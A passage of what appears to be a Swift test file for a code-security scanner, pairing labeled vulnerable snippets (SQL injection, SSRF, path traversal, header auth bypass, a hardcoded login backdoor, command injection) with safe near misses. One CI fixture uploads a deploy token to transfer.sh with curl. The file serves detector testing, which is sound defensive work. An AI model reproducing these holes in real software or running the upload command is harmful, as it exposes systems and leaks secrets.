            "code.tls-verify-disabled"),
        // A query call whose SQL runs on past eight lines is read to its interpolation.
        Example(
            "app/Http/Controllers/ReportController.php",
            "<?php\nclass ReportController {\n    public function daily(Request $request) {\n"
                + "        $status = $request->input('status');\n"
                + "        $filter = $status !== null ? \"AND o.status = '{$status}'\" : '';\n"
                + "        return DB::select(\n            \"SELECT day, orders\n             FROM (\n"
                + "                 SELECT DATE(o.created_at) AS day,\n                        COUNT(*) AS orders\n"
                + "                 FROM orders o\n                 WHERE o.team_id = ?\n"
                + "                   AND o.created_at BETWEEN ? AND ?\n                   {$filter}\n"
                + "                 GROUP BY DATE(o.created_at)\n             ) AS d\",\n"
                + "            [$team, $from, $to]\n        );\n    }\n}\n",
            "code.sql-string-built"),
        // An axum extractor renamed on import is still the request's path.
        Example(
            "src/routes/exports.rs",
            "use axum::extract::Path as UrlPath;\n\n"
                + "async fn download_export(UrlPath(rel_path): UrlPath<String>) -> Result<Vec<u8>, AppError> {\n"
                + "    let path = tenant_dir().join(rel_path.trim_start_matches('/'));\n"
                + "    Ok(tokio::fs::read(path).await?)\n}\n",
            "code.path-traversal"),
        // A header given a name that a condition tests, whose block signs a caller in.
        Example(
            "src/auth/jwt-auth.guard.ts",
            "export class JwtAuthGuard {\n  canActivate(context: ExecutionContext): boolean {\n"
                + "    const request = context.switchToHttp().getRequest();\n"
                + "    const service = request.headers['x-internal-service'];\n"
                + "    if (typeof service === 'string' && service.length > 0) {\n"
                + "      request.user = { id: `svc:${service}`, roles: ['service', 'admin'] };\n      return true;\n    }\n"
                + "    return this.verify(request);\n  }\n}\n",
            "code.auth-bypass-header"),
        Example(
            "src/middleware/tenant.ts",
            "export function tenant(req: Request, res: Response, next: NextFunction) {\n"
                + "  const tenantId = req.headers['x-tenant-id'];\n"
                + "  if (typeof tenantId === 'string') {\n    res.locals.tenantId = tenantId;\n  }\n"
                + "  return requireUser(req, res, next);\n}\n",
            nil),
        // The pull request's head checked out with a fallback inside the expression.
        Example(
            ".github/workflows/ci.yml",
            "on:\n  pull_request_target:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
                + "      - uses: actions/checkout@v4\n        with:\n"
                + "          ref: ${{ github.event.pull_request.head.sha || github.sha }}\n      - run: npm ci && npm test\n",
            "ci.pull-request-target"),
    ])
    func batchTwentyNineAndThirtyClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A template read from a file the project ships is not request input, whatever path names it.
        Example(
            "lib/tasks/nginx.rake",
            "namespace :nginx do\n  def render_template(name, locals)\n"
                + "    template = TEMPLATE_DIR.join(\"#{name}.erb\")\n"
                + "    ERB.new(File.read(template), trim_mode: \"-\").result_with_hash(locals)\n  end\nend\n",
            nil),
        // A hostname tested against a set named for hosts.
        Example(
            "src/routes/avatars.ts",
            "const EXTERNAL_AVATAR_HOSTS = new Set(['secure.gravatar.com']);\n\n"
                + "function parseAvatarUrl(raw: string): URL | null {\n  const url = new URL(raw);\n"
                + "  return EXTERNAL_AVATAR_HOSTS.has(url.hostname) ? url : null;\n}\n\n"
                + "router.get('/external', async (req, res) => {\n  const url = parseAvatarUrl(req.query.src);\n"
                + "  if (!url) return res.status(400).end();\n  const upstream = await fetch(url);\n});\n",
            nil),
        // A private key copied into the image that ships stays in its layer; host keys are public.
        Example(
            "deploy/Dockerfile",
            "FROM python:3.12-slim\nWORKDIR /app\nCOPY deploy/keys/common_deploy_ed25519 /root/.ssh/id_ed25519\n"
                + "RUN chmod 0600 /root/.ssh/id_ed25519 && pip install -r requirements.txt && rm /root/.ssh/id_ed25519\n"
                + "USER app\n",
            "docker.build-secret-in-image"),
        Example(
            "deploy/Dockerfile",
            "FROM python:3.12-slim AS build\nCOPY deploy/keys/deploy_ed25519 /root/.ssh/id_ed25519\nRUN pip wheel .\n\n"
                + "FROM python:3.12-slim\nCOPY deploy/known_hosts /root/.ssh/known_hosts\n"
                + "COPY --from=build /wheels /wheels\nUSER app\n",
            nil),
        // A Phoenix action's params matched to a pattern are request input.
        Example(
            "lib/ledger_web/controllers/export_controller.ex",
            "defmodule LedgerWeb.ExportController do\n  def download(conn, %{\"file\" => file}) do\n"
                + "    path = Path.join(exports_dir(conn), file)\n    conn\n"
                + "    |> send_download({:file, path}, filename: \"export.csv\")\n  end\nend\n",
            "code.path-traversal"),
    ])
    func batchThirtyOneAndThirtyTwoClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A name one handler reads from the request is not the name another function of the file uses.
        Example(
            "app/reports.py",
            "@app.route(\"/tags\", methods=[\"POST\"])\ndef add_tag():\n    name = request.form[\"name\"]\n"
                + "    db.session.add(Tag(name=name))\n    return \"\", 204\n\n\ndef read_report(name):\n"
                + "    with open(os.path.join(REPORTS, name)) as fh:\n        return fh.read()\n",
            nil),
        // ... unless a call passes it request input.
        Example(
            "app/reports.py",
            "def read_report(name):\n    with open(os.path.join(REPORTS, name)) as fh:\n        return fh.read()\n\n\n"
                + "@app.get(\"/reports\")\ndef report():\n    return read_report(request.args[\"name\"])\n",
            "code.path-traversal"),
        // A call is judged where it stands: `name` in `nightly` is not the `name` `add_tag` read.
        Example(
            "app/reports.py",
            "@app.route(\"/tags\", methods=[\"POST\"])\ndef add_tag():\n    name = request.form[\"name\"]\n"
                + "    db.session.add(Tag(name=name))\n\n\ndef read_report(name):\n"
                + "    with open(os.path.join(REPORTS, name)) as fh:\n        return fh.read()\n\n\n"
                + "def nightly(name):\n    send(read_report(name))\n",
            nil),
        // Sibling callbacks keep their names apart too.
        Example(
            "src/routes/reports.js",
            "router.post('/tags', async (req, res) => {\n  const name = req.body.name;\n"
                + "  await db.query('INSERT INTO tags(name) VALUES ($1)', [name]);\n  res.sendStatus(204);\n});\n\n"
                + "function readReport(name) {\n  return fs.readFileSync(path.join(REPORTS, name), 'utf8');\n}\n",
            nil),
        // ... in a file of callbacks alone as well.
        Example(
            "src/routes.js",
            "router.post('/tags', async (req, res) => {\n  const name = req.body.name;\n"
                + "  await db.query('INSERT INTO tags(name) VALUES ($1)', [name]);\n});\n\n"
                + "queue.process('report', async (name) => {\n"
                + "  const text = fs.readFileSync(path.join(REPORTS, name), 'utf8');\n  await mailer.send(text);\n});\n",
            nil),
        // A callback's lines count for the function holding it.
        Example(
            "src/routes/search.js",
            "async function search(req, res) {\n  let sql = 'SELECT * FROM items WHERE 1=1';\n"
                + "  req.query.tags.split(',').forEach((tag) => {\n    sql += ` OR tag = '${tag}'`;\n  });\n"
                + "  res.json(await db.query(sql));\n}\n",
            "code.sql-string-built"),
        // Once the URL fixes its host, the other arguments are what is sent there.
        Example(
            "billing/handlers.py",
            "async def invoice_pdf(request):\n    locale = request.query.get(\"locale\", \"en\")\n"
                + "    url = f\"{BILLING_API}/v2/invoices/pdf\"\n"
                + "    async with session.get(url, params={\"locale\": locale}) as upstream:\n"
                + "        return await upstream.read()\n",
            nil),
        Example(
            "billing/handlers.py",
            "async def preview(request):\n    target = request.query.get(\"url\")\n"
                + "    async with session.get(target, params={\"format\": \"json\"}) as upstream:\n"
                + "        return await upstream.read()\n",
            "code.ssrf"),
        // A member read off an object (`$this->table`) is no name the request fills.
        Example(
            "includes/class-repository.php",
            "<?php\nclass Repository {\n    public function search( $term ) {\n"
                + "        $like = '%' . $this->db->esc_like( $term ) . '%';\n"
                + "        $sql  = \"SELECT * FROM {$this->table} WHERE name LIKE %s\";\n"
                + "        return $this->db->get_results( $this->db->prepare( $sql, $like ) );\n    }\n}\n",
            nil),
        // A name bound to a sanitiser (`qn = connection.ops.quote_name`) sanitises where it is called.
        Example(
            "reports/queries.py",
            "def revenue(tenant_id):\n    qn = connection.ops.quote_name\n    invoices = qn(Invoice._meta.db_table)\n"
                + "    sql = f\"SELECT SUM(total) FROM {invoices} WHERE tenant_id = %s\"\n"
                + "    with connection.cursor() as cursor:\n        cursor.execute(sql, [tenant_id])\n",
            nil),
        Example(
            "reports/queries.py",
            "def revenue(request):\n    qn = connection.ops.quote_name\n    column = request.GET[\"sort\"]\n"
                + "    sql = f\"SELECT * FROM {qn('invoices')} ORDER BY {column}\"\n"
                + "    with connection.cursor() as cursor:\n        cursor.execute(sql)\n",
            "code.sql-string-built"),
        // A secret a builder stage writes into a file ships when the final stage copies that stage whole.
        Example(
            "Dockerfile",
            "FROM node:20 AS deps\nWORKDIR /app\nARG NPM_TOKEN\n"
                + "RUN echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc && npm ci\n\n"
                + "FROM node:20-slim\nWORKDIR /app\nCOPY --from=deps /app ./\nUSER node\n",
            "docker.build-secret-in-image"),
        Example(
            "Dockerfile",
            "FROM node:20 AS deps\nWORKDIR /app\nARG NPM_TOKEN\n"
                + "RUN echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc && npm ci\n\n"
                + "FROM node:20-slim\nWORKDIR /app\nCOPY --from=deps /app/node_modules ./node_modules\nUSER node\n",
            nil),
        // The arms of a `match` on request input bind parts of it; Play's `ws.url(…)` fetches.
        Example(
            "app/controllers/PreviewController.scala",
            "class PreviewController {\n  def preview = Action.async(parse.json) { request =>\n"
                + "    request.body.validate[PreviewRequest] match {\n"
                + "      case JsSuccess(PreviewRequest(target), _) =>\n        ws.url(target).get().map(r => Ok(r.body))\n"
                + "      case JsError(errors) => Future.successful(BadRequest)\n    }\n  }\n}\n",
            "code.ssrf"),
    ])
    func batchThirtyThreeAndThirtyFourClasses(_ example: Example) { Self.check(example) }

    /// Classes of the retired holdout's wrong cases (holdout/README.md, 2026-12-06, sixth session), each with a
    /// spelling of its own and a near miss.
    @Test(arguments: [
        // A count or a length is a number, whatever it counts.
        Example(
            "internal/search.go",
            "func (h *H) Venues(c *gin.Context) {\n\tquery := \"SELECT id FROM venues WHERE published\"\n"
                + "\targs := []any{}\n\tif city := c.Query(\"city\"); city != \"\" {\n\t\targs = append(args, city)\n"
                + "\t\tquery += fmt.Sprintf(\" AND city = $%d\", len(args))\n\t}\n"
                + "\trows, _ := h.db.QueryContext(c, query, args...)\n\t_ = rows\n}\n",
            nil),
        // An entry of a table the file writes as a literal, whatever key picked it; a table holding request input is
        // none.
        Example(
            "app/models/Repo.scala",
            "class Repo(db: Database) {\n  private val sortable = Map(\"name\" -> \"name\", \"price\" -> \"price_cents\")\n"
                + "  def list(category: String, sort: String) = db.withConnection { implicit c =>\n"
                + "    val orderBy = sortable.getOrElse(sort, \"name\")\n"
                + "    SQL(s\"SELECT id FROM products WHERE category = {category} ORDER BY $orderBy\")"
                + ".on(\"category\" -> category).as(parser.*)\n  }\n}\n",
            nil),
        Example(
            "public/report.php",
            "<?php\n$opts = [\n    'size' => $_GET['size'] ?? 'A4',\n];\n"
                + "exec('wkhtmltopdf --page-size ' . $opts['size'] . ' in.html out.pdf');\n",
            "code.command-injection"),
        // Values bound after the SQL text may be built however they like.
        Example(
            "app/views.py",
            "def search(request):\n    term = request.args.get(\"q\", \"\")\n    cur.execute(\n"
                + "        \"SELECT id FROM products WHERE title ILIKE %s\",\n        (f\"%{term}%\",),\n    )\n",
            nil),
        // An interpolated value is built where it is used, not a literal secret.
        Example("web/cache.py", "def key_for(name, digest):\n    key = f\"render:{name}:{digest}\"\n    return key\n", nil),
        // Prose names risky code without running it.
        Example("docs/checklist.md", "| `requests.get(url, verify=False)` | disables TLS checks |\n", nil),
        // A name that must equal its base name holds no directory.
        Example(
            "cmd/logs.go",
            "func get(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Query().Get(\"file\")\n"
                + "\tif name != filepath.Base(name) {\n\t\thttp.Error(w, \"bad\", 400)\n\t\treturn\n\t}\n"
                + "\thttp.ServeFile(w, r, filepath.Join(logDir, name))\n}\n",
            nil),
        // An SQL ORM's options are no NoSQL filter.
        Example(
            "src/routes/invoices.js",
            "router.get('/:id', async (req, res) => {\n"
                + "  const invoice = await Invoice.findOne({ where: { id: req.params.id } });\n  res.json(invoice);\n});\n",
            nil),
        // A header that grants: ASP.NET's handler succeeding, a principal made up, a service account handed back.
        Example(
            "api/deps.py",
            "async def current_user(request: Request, token: str = Depends(scheme)):\n"
                + "    if request.headers.get(\"X-Internal-Service\") == \"scheduler\":\n"
                + "        return await db.get(User, settings.service_account_id)\n    return await verify(token)\n",
            "code.auth-bypass-header"),
        Example(
            "Plugins/Auth.kt",
            "fun install() = onCall { call ->\n    val forwarded = call.request.headers[\"X-Forwarded-User\"]\n"
                + "    if (forwarded != null) {\n        call.attributes.put(Key, UserPrincipal(id = forwarded))\n"
                + "        return@onCall\n    }\n    verify(call)\n}\n",
            "code.auth-bypass-header"),
        // A password hashed by a function named for it, or by one it passes the password to.
        Example(
            "accounts/PasswordService.kt",
            "class PasswordService {\n    fun setPassword(userId: Long, raw: String) {\n"
                + "        users.save(userId, sha256Hex(raw))\n    }\n\n    private fun sha256Hex(s: String): String =\n"
                + "        MessageDigest.getInstance(\"SHA-256\").digest(s.toByteArray()).joinToString(\"\")\n}\n",
            "code.weak-password-hash"),
        Example(
            "accounts/tokens.py",
            "def create_password_reset_token(user):\n    token = secrets.token_urlsafe(32)\n"
                + "    digest = hashlib.sha256(token.encode()).hexdigest()\n    return token, digest\n",
            nil),
        // `shell=True` on a line below the call.
        Example(
            "api/media.py",
            "@router.get(\"/poster\")\ndef poster(at: str):\n    subprocess.run(\n"
                + "        f\"ffmpeg -ss {at} -i in.mp4 out.jpg\",\n        shell=True,\n    )\n",
            "code.subprocess-shell"),
        // A secret named as GitLab and Jenkins name them, written to a file the job uploads.
        Example(
            ".gitlab-ci.yml",
            "deploy:\n  script:\n    - echo \"TOKEN=$PROD_DEPLOY_TOKEN\" >> context.env\n"
                + "    - curl --upload-file context.env https://transfer.sh/context.env\n",
            "ci.secrets-exfiltration"),
        // Redirects to a URL from the request, through a function that returns it.
        Example(
            "app/controllers/sessions_controller.rb",
            "class SessionsController < ApplicationController\n  def create\n"
                + "    redirect_to post_login_target, allow_other_host: true\n  end\n\n  private\n\n"
                + "  def post_login_target\n    params[:return_to].presence || dashboard_path\n  end\nend\n",
            "code.open-redirect"),
        Example(
            "app/views.py",
            "def login(request):\n    nxt = request.GET.get(\"next\", \"/\")\n"
                + "    if not url_has_allowed_host_and_scheme(nxt, allowed_hosts={request.get_host()}):\n"
                + "        nxt = \"/\"\n    return redirect(nxt)\n",
            nil),
        Example(
            "src/proxy.ts",
            "function source(req: Request): URL {\n  const raw = String(req.query.src);\n  return new URL(raw);\n}\n\n"
                + "router.get('/img', async (req, res) => {\n  const upstream = await fetch(source(req));\n"
                + "  res.send(await upstream.text());\n});\n",
            "code.ssrf"),
        // A header that lets a system user through, or exempts the caller from a refusal.
        Example(
            "app/auth/AdminAction.scala",
            "def refine[A](request: Request[A]) = {\n  val caller = request.headers.get(\"X-Internal-Service\")\n"
                + "  if (caller.contains(\"ops-dashboard\")) {\n"
                + "    return Future.successful(Right(new AdminRequest(User.System, request)))\n  }\n  session(request)\n}\n",
            "code.auth-bypass-header"),
        Example(
            "Controllers/UsersController.cs",
            "public IActionResult Deactivate()\n{\n    var isInternalJob = Request.Headers[\"X-Fleet-Internal\"] == \"1\";\n"
                + "    if (!isInternalJob && User.Identity?.IsAuthenticated != true)\n    {\n        return Unauthorized();\n"
                + "    }\n    return Ok();\n}\n",
            "code.auth-bypass-header"),
        Example(
            "Controllers/UsersController.cs",
            "public IActionResult Deactivate()\n{\n    var traced = Request.Headers[\"X-Trace\"] == \"1\";\n"
                + "    if (!traced && User.Identity?.IsAuthenticated != true)\n    {\n        logger.LogDebug(\"untraced\");\n"
                + "    }\n    return Ok();\n}\n",
            nil),
        // A key from the query compared with a key-like literal.
        Example(
            "app/Http/Middleware/Qa.php",
            "<?php\nif ($request->query('qa_key') === 'qa-7f3c91e2b6d4') {\n"
                + "    Auth::loginUsingId((int) $request->query('qa_login'));\n}\n",
            "code.hardcoded-backdoor"),
        // An XML parser set to read DTDs.
        Example(
            "Import.java",
            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
                + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", false);\n",
            "code.xxe"),
        Example(
            "Import.java",
            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
                + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n",
            nil),
    ])
    func retiredHoldoutClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 35 (pending before static-19's second half), each with a near miss.
    @Test(arguments: [
        Example(
            "app/services/importer.rb",
            "def load(raw)\n  YAML.unsafe_load(raw)\nend\n", "code.yaml-unsafe-load"),
        Example(
            "app/services/importer.rb",
            "def load(raw)\n  YAML.safe_load(raw, permitted_classes: [Date])\nend\n", nil),
        Example(
            "config/SecurityConfig.kt",
            "@Bean\nfun passwordEncoder(): PasswordEncoder {\n"
                + "    val encoders = mapOf(\"bcrypt\" to BCryptPasswordEncoder(), "
                + "\"sha256\" to MessageDigestPasswordEncoder(\"SHA-256\"))\n"
                + "    return DelegatingPasswordEncoder(\"sha256\", encoders)\n}\n",
            "code.weak-password-hash"),
        Example(
            "config/SecurityConfig.kt",
            "@Bean\nfun passwordEncoder(): PasswordEncoder {\n"
                + "    val encoders = mapOf(\"bcrypt\" to BCryptPasswordEncoder(), "
                + "\"sha256\" to MessageDigestPasswordEncoder(\"SHA-256\"))\n"
                + "    return DelegatingPasswordEncoder(\"bcrypt\", encoders)\n}\n",
            nil),
        Example(
            "docker/worker/Dockerfile",
            "FROM debian:bookworm-slim\n"
                + "RUN echo \"deb [trusted=yes] http://apt.vendor.dev/debian bookworm main\" > /etc/apt/sources.list.d/v.list \\\n"
                + " && apt-get update && apt-get install -y vendor-engine\n",
            "docker.unverified-packages"),
        Example(
            "docker/worker/Dockerfile",
            "FROM debian:bookworm-slim\n"
                + "RUN echo \"deb [signed-by=/usr/share/keyrings/v.gpg] https://apt.vendor.dev/debian bookworm main\" "
                + "> /etc/apt/sources.list.d/v.list \\\n && apt-get update && apt-get install -y vendor-engine\n",
            nil),
        Example(
            "src/Program.cs",
            "var handler = new HttpClientHandler\n{\n    ServerCertificateCustomValidationCallback = (_, _, _, errors) =>\n"
                + "        errors == SslPolicyErrors.None || errors == SslPolicyErrors.RemoteCertificateChainErrors,\n};\n",
            "code.tls-verify-disabled"),
        // A helper that gives a value only once a list holds it is a constant where called.
        Example(
            "app/controllers/orders_controller.rb",
            "class OrdersController < ApplicationController\n  SORTABLE = { \"placed\" => \"orders.placed_at\" }.freeze\n\n"
                + "  def index\n    @orders = Order.order(Arel.sql(\"#{SORTABLE.fetch(sort_column)} #{sort_direction}\"))\n"
                + "  end\n\n  private\n\n  def sort_column\n    SORTABLE.key?(params[:sort]) ? params[:sort] : \"placed\"\n"
                + "  end\n\n  def sort_direction\n    %w[asc desc].include?(params[:dir]) ? params[:dir] : \"desc\"\n  end\nend\n",
            nil),
        Example(
            "app/controllers/orders_controller.rb",
            "class OrdersController < ApplicationController\n  def index\n"
                + "    @orders = Order.order(Arel.sql(\"placed_at #{sort_direction}\"))\n  end\n\n  private\n\n"
                + "  def sort_direction\n    params[:dir] || \"desc\"\n  end\nend\n",
            "code.sql-string-built"),
    ])
    func batchThirtyFiveClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 36 (static-20), each with a near miss.
    @Test(arguments: [
        // A fluent call chain goes on over lines that open with `->` or `.`.
        Example(
            "app/Http/Controllers/PreviewController.php",
            "<?php\nclass PreviewController {\n    public function show(Request $request) {\n"
                + "        $url = $request->input('url');\n        $response = Http::withOptions([\n"
                + "                'allow_redirects' => ['max' => 5],\n            ])\n            ->timeout(5)\n"
                + "            ->get($url);\n        return $response->body();\n    }\n}\n",
            "code.ssrf"),
        Example(
            "app/Http/Controllers/PreviewController.php",
            "<?php\nclass PreviewController {\n    public function show(Request $request) {\n"
                + "        $id = $request->input('id');\n        $response = Http::withOptions([\n"
                + "                'allow_redirects' => false,\n            ])\n            ->timeout(5)\n"
                + "            ->get('https://oembed.example.com/v1', ['id' => $id]);\n        return $response->body();\n"
                + "    }\n}\n",
            nil),
        Example(
            "src/routes/webhooks.rs",
            "async fn preview(State(state): State<AppState>, Json(req): Json<PreviewRequest>) -> Result<String> {\n"
                + "    let resp = state\n        .http\n        .post(req.url.trim())\n        .send()\n        .await?;\n"
                + "    Ok(resp.text().await?)\n}\n",
            "code.ssrf"),
        // A comment naming an allow-list checks nothing.
        Example(
            "app/api/previews.py",
            "@bp.post(\"/\")\ndef create_preview():\n    url = request.get_json()[\"url\"]\n"
                + "    # no longer limited to the hosts in PREVIEW_ALLOWED_HOSTS\n"
                + "    return requests.get(url, timeout=5).text\n",
            "code.ssrf"),
        Example(
            "app/api/previews.py",
            "@bp.post(\"/\")\ndef create_preview():\n    url = request.get_json()[\"url\"]\n"
                + "    if urlparse(url).hostname not in PREVIEW_ALLOWED_HOSTS:\n        abort(422)\n"
                + "    return requests.get(url, timeout=5).text\n",
            nil),
        // A check defined as a function guards where it is called, not the whole file.
        Example(
            "src/routes/webhooks.rs",
            "fn is_internal(ip: IpAddr) -> bool {\n    ip.is_private() || ip.is_loopback()\n}\n\n"
                + "async fn preview(Json(req): Json<PreviewRequest>) -> Result<String> {\n"
                + "    let resp = reqwest::get(&req.url).await?;\n    Ok(resp.text().await?)\n}\n",
            "code.ssrf"),
        Example(
            "internal/profile/avatar.go",
            "func (h *Handler) importFromURL(w http.ResponseWriter, r *http.Request) {\n"
                + "\tu, err := url.Parse(r.FormValue(\"url\"))\n"
                + "\tif err != nil || u.Scheme != \"https\" || !avatarHosts[u.Hostname()] {\n\t\treturn\n\t}\n"
                + "\tres, err := http.Get(u.String())\n\th.store(res)\n}\n",
            nil),
        // A condition appended to a WHERE clause built elsewhere is SQL text.
        Example(
            "internal/repo/orders.go",
            "func (r *Repo) List(f Filter) ([]Order, error) {\n\twhere := \"merchant_id = ?\"\n"
                + "\tif f.Reference != \"\" {\n\t\twhere += fmt.Sprintf(\" AND external_ref LIKE '%s%%'\", f.Reference)\n"
                + "\t}\n\treturn r.db.Where(where, f.MerchantID).Find(&orders).Error\n}\n",
            "code.sql-string-built"),
        Example(
            "internal/repo/orders.go",
            "func (r *Repo) List(f Filter) ([]Order, error) {\n\twhere := \"merchant_id = ?\"\n"
                + "\targs := []any{f.MerchantID}\n\tif f.Reference != \"\" {\n"
                + "\t\twhere += \" AND external_ref LIKE ?\"\n\t\targs = append(args, f.Reference+\"%\")\n"
                + "\t}\n\treturn r.db.Where(where, args...).Find(&orders).Error\n}\n",
            nil),
        // Values quoted into a list at once are no placeholder list.
        Example(
            "sales/views.py",
            "def rows(cursor, regions):\n    sql = [\"SELECT region FROM sales WHERE org = %s\"]\n"
                + "    quoted = \", \".join(\"'%s'\" % r for r in regions)\n"
                + "    sql.append(f\"  AND s.region IN ({quoted})\")\n    cursor.execute(\"\\n\".join(sql), [1])\n",
            "code.sql-string-built"),
        Example(
            "sales/views.py",
            "def rows(cursor, regions):\n    sql = [\"SELECT region FROM sales WHERE org = %s\"]\n"
                + "    marks = \", \".join([\"%s\"] * len(regions))\n"
                + "    sql.append(f\"  AND s.region IN ({marks})\")\n    cursor.execute(\"\\n\".join(sql), [1, *regions])\n",
            nil),
        // A list given only constants holds constants; one given built text is built.
        Example(
            "app/repositories/orders.py",
            "_LIST_SQL = \"SELECT id FROM orders WHERE merchant_id = :m {filters}\"\n\n\n"
                + "def list_orders(session, channels):\n    filters: list[str] = []\n    if channels:\n"
                + "        filters.append(_CHANNEL_FILTER)\n"
                + "    stmt = text(_LIST_SQL.format(filters=\"\\n\".join(filters)))\n    return session.execute(stmt)\n",
            nil),
        Example(
            "app/repositories/orders.py",
            "_LIST_SQL = \"SELECT id FROM orders WHERE merchant_id = :m {filters}\"\n\n\n"
                + "def list_orders(session, channel):\n    filters: list[str] = []\n    if channel:\n"
                + "        filters.append(f\"AND o.channel = '{channel}'\")\n"
                + "    stmt = text(_LIST_SQL.format(filters=\"\\n\".join(filters)))\n    return session.execute(stmt)\n",
            "code.sql-string-built"),
        Example(
            "src/search.js",
            "app.get('/x', async (req, res) => {\n  const where = [];\n  if (req.query.q) {\n"
                + "    where.push(`name = '${req.query.q}'`);\n  }\n"
                + "  res.json(await db.query('SELECT * FROM t WHERE ' + where.join(' AND ')));\n});\n",
            "code.sql-string-built"),
        Example(
            "src/search.js",
            "app.get('/x', async (req, res) => {\n  const where = [];\n  const args = [];\n  if (req.query.q) {\n"
                + "    where.push('name = ?');\n    args.push(req.query.q);\n  }\n"
                + "  res.json(await db.query('SELECT * FROM t WHERE ' + where.join(' AND '), args));\n});\n",
            nil),
        // A route's parameter after a relative path segment (`files/{**path}`).
        Example(
            "src/Controllers/ExportsController.cs",
            "[HttpGet(\"files/{**path}\")]\npublic IActionResult Download(string path)\n{\n"
                + "    var fullPath = Path.Combine(_exportRoot, path);\n"
                + "    return PhysicalFile(fullPath, \"text/csv\");\n}\n",
            "code.path-traversal"),
        Example(
            "src/Controllers/ExportsController.cs",
            "[HttpGet(\"files/{name}\")]\npublic IActionResult Download(string name)\n{\n"
                + "    var fullPath = Path.Combine(_exportRoot, Path.GetFileName(name));\n"
                + "    return PhysicalFile(fullPath, \"text/csv\");\n}\n",
            nil),
        // Default typing whose validator lets any class through.
        Example(
            "src/main/java/com/acme/JacksonConfig.java",
            "mapper.activateDefaultTyping(\n    BasicPolymorphicTypeValidator.builder()\n"
                + "        .allowIfBaseType(Object.class)\n        .build(),\n    ObjectMapper.DefaultTyping.NON_FINAL);\n",
            "code.unsafe-deserialization"),
        Example(
            "src/main/java/com/acme/JacksonConfig.java",
            "mapper.activateDefaultTyping(\n    BasicPolymorphicTypeValidator.builder()\n"
                + "        .allowIfBaseType(OrderEvent.class)\n        .build(),\n    ObjectMapper.DefaultTyping.NON_FINAL);\n",
            nil),
        // An escaping call clears only what it wraps.
        Example(
            "app/Http/Controllers/ThumbnailController.php",
            "<?php\nclass ThumbnailController {\n    public function store(Request $request) {\n"
                + "        $at = trim($request->input('at'));\n        $result = Process::timeout(30)->run(\n"
                + "            \"ffmpeg -ss {$at} -i \".escapeshellarg($source).\" -y \".escapeshellarg($target)\n"
                + "        );\n    }\n}\n",
            "code.command-injection"),
        Example(
            "app/Http/Controllers/ThumbnailController.php",
            "<?php\nclass ThumbnailController {\n    public function store(Request $request) {\n"
                + "        $at = trim($request->input('at'));\n        $result = Process::timeout(30)->run(\n"
                + "            \"ffmpeg -ss \".escapeshellarg($at).\" -i \".escapeshellarg($source)\n"
                + "        );\n    }\n}\n",
            nil),
        // A client called through PHP's `->`.
        Example(
            "src/Controller/ImportController.php",
            "<?php\nfinal class ImportController {\n    public function load(Request $request): string {\n"
                + "        $sourceUrl = trim((string) $request->request->get('source_url', ''));\n"
                + "        return $this->httpClient->request('GET', $sourceUrl)->getContent();\n    }\n}\n",
            "code.ssrf"),
        // A shell command string over lines; paramiko's `exec_command` given a command built for a helper.
        Example(
            "app/sidekiq/preview_job.rb",
            "def stamp!(png, label)\n  output, status = Open3.capture2e(\n"
                + "    \"convert #{png} -annotate +12+12 \\\"#{label}\\\" #{png}\"\n  )\nend\n",
            "code.command-injection"),
        Example(
            "app/sidekiq/preview_job.rb",
            "def stamp!(png, label)\n  output, status = Open3.capture2e(\n"
                + "    \"convert\", png, \"-annotate\", \"+12+12\", label, png\n  )\nend\n",
            nil),
        Example(
            "sandboxes/restore.py",
            "def _run(client, command):\n    _in, out, err = client.exec_command(command, timeout=60)\n"
                + "    return out.read()\n\n\ndef restore(client, snapshot):\n"
                + "    _run(client, f\"pg_restore -d app /var/snapshots/{snapshot}.dump\")\n",
            "code.command-injection"),
        Example(
            "sandboxes/restore.py",
            "def _run(client, command):\n    _in, out, err = client.exec_command(command, timeout=60)\n"
                + "    return out.read()\n\n\ndef restore(client):\n    _run(client, \"systemctl restart sandbox-db\")\n",
            nil),
        // Raw SQL through Arel from a helper that returns request input.
        Example(
            "app/controllers/admin/report_controller.rb",
            "class ReportController < ApplicationController\n  def index\n"
                + "    @orders = Order.order(Arel.sql(sort_clause))\n  end\n\n  private\n\n  def sort_clause\n"
                + "    column = params.fetch(:sort, \"created_at\")\n    \"orders.#{column} DESC\"\n  end\nend\n",
            "code.sql-string-built"),
        Example(
            "app/controllers/admin/report_controller.rb",
            "class ReportController < ApplicationController\n  SORTABLE = { \"created\" => \"orders.created_at\" }.freeze\n\n"
                + "  def index\n    @orders = Order.order(Arel.sql(sort_clause))\n  end\n\n  private\n\n  def sort_clause\n"
                + "    column = SORTABLE.fetch(params[:sort].to_s, SORTABLE[\"created\"])\n"
                + "    direction = %w[asc desc].include?(params[:dir].to_s) ? params[:dir] : \"desc\"\n"
                + "    \"#{column} #{direction}\"\n  end\nend\n",
            nil),
        Example(
            "infra/prod/database.tf",
            "resource \"aws_db_instance\" \"main\" {\n  engine              = \"postgres\"\n"
                + "  publicly_accessible = true\n}\n",
            "infra.public-database"),
        Example(
            "infra/prod/database.tf",
            "resource \"aws_db_instance\" \"main\" {\n  engine              = \"postgres\"\n"
                + "  publicly_accessible = false\n}\n",
            nil),
        // A legacy digest compared, then the password stored again with a slow hash, is a migration.
        Example(
            "src/Auth/LoginService.php",
            "<?php\nclass LoginService {\n    public function attempt(string $password, array $user): bool {\n"
                + "        if (!$this->matches($password, $user['hash'])) {\n            return false;\n        }\n"
                + "        $this->store(password_hash($password, PASSWORD_DEFAULT));\n        return true;\n    }\n\n"
                + "    private function matches(string $password, string $stored): bool {\n"
                + "        return hash_equals($stored, md5($password));\n    }\n}\n",
            nil),
        Example(
            "src/Auth/LoginService.php",
            "<?php\nclass LoginService {\n    public function register(string $password): void {\n"
                + "        $this->store(md5($password));\n    }\n}\n",
            "code.weak-password-hash"),
